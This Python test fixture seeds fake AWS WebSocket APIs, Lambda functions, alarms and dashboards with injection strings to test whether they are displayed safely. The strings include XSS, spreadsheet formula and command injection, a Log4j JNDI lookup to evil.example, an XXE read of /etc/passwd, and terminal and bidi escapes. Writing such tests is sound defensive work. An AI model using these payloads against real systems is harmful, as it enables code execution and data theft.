"""Names, tags and descriptions that harm who shows them as they are."""

from __future__ import annotations

from tests.awsfake.estates.parts import Builder
from tests.awsfake.world import ACCOUNT, REGION, FakeAws

HOSTILE = {
    "html": "<img src=x onerror=alert(1)>",
    "script": "</script><script>alert(1)</script>",
    "attribute": "\" onmouseover=\"alert(1)' x='",
    "markdown": "[click](javascript:alert(1)) ![x](https://evil.example/p.png) | a | `b` <!-- item:X -->",
    "box": "- [x] done\n- [x] also done",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "formula": '=HYPERLINK("https://evil.example","open")',
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "bidi": "invoice\u202egnp.exe\u2066hidden\u2069",
    "newline": "first\r\nSet-Cookie: x=1\nBEGIN:VALARM",
    "template": "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example/a} $(touch /tmp/owned) `id`",
    "workflow": "::set-output name=x::y\n::error file=a::b",
    "xml": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "long": "A" * 900,
}
"""Kind -> text. Free texts (descriptions, names of APIs, tags, titles of widgets) hold each of them."""


def hostile(aws: FakeAws, *, account: str = ACCOUNT, region: str = REGION) -> list[str]:
    """One WebSocket API per text, with the text wherever AWS takes one. Gives the ids of the APIs."""
    make = Builder(aws, account, region)
    with aws.quiet():
        gateway = make.client("apigatewayv2")
        role = make.role("hostile-role", [])
        apis = []
        for number, (kind, text) in enumerate(HOSTILE.items()):
            short = text[:128]
            api = gateway.create_api(
                Name=short,
                Description=text[:1024],
                ProtocolType="WEBSOCKET",
                RouteSelectionExpression="$request.body.action",
                Tags={"owner": text[:256], short: kind},
            )["ApiId"]
            function = make.function(f"hostile-{kind.replace('_', '-')}", role, Description=text[:256])
            make.route(api, text[:256], function)
            gateway.create_stage(
                ApiId=api, StageName="prod", Description=text[:1024], StageVariables={f"v{number}": short}
            )
            make.alarm(
                f"hostile {number} {short}"[:255],
                "AWS/ApiGateway",
                "ConnectCount",
                {"ApiId": api},
                AlarmDescription=text[:1024],
            )
            make.dashboard(f"hostile-{number}", [make.widget(text, ["AWS/ApiGateway", "ConnectCount", "ApiId", api])])
            apis.append(api)
    return apis
